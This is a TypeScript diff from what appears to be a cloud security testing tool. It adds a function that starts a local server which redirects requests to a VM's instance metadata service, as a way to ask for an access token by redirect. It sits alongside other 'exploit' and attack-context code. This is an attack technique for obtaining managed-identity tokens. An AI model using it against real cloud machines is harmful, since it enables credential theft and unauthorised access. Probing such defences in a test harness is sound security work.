@@ -1,4 +1,5 @@
 import { Refused } from "../exploits/exploit";
+import { LoopbackServer } from "../http/loopback-server";
 import type { AttackContext } from "./attack";
 
 /** A request to the metadata service that is not as it should be. Whatever is left out is. */
@@ -32,4 +33,19 @@ export async function askOddly(context: AttackContext, request: OddRequest): Pro
   const { error = "", error_description: description } = body;
   const code = /AADSTS\d+/.exec(description ?? "")?.[0] ?? (description === undefined ? undefined : error);
   throw new Refused(code ?? String(response.status), description ?? error);
+}
+
+/** Asks for a token at the attacker's web server, which redirects to the metadata service. @throws as {@link askOddly} */
+export async function askByRedirect(
+  context: AttackContext,
+  headers: Readonly<Record<string, string>>,
+): Promise<unknown> {
+  const redirecting = await LoopbackServer.listen(({ url = "" }, response) => {
+    response.writeHead(302, { location: `${context.vm.imdsUrl}${url}` }).end();
+  });
+  try {
+    return await askOddly(context, { headers, url: redirecting.url });
+  } finally {
+    await redirecting.close();
+  }
 }
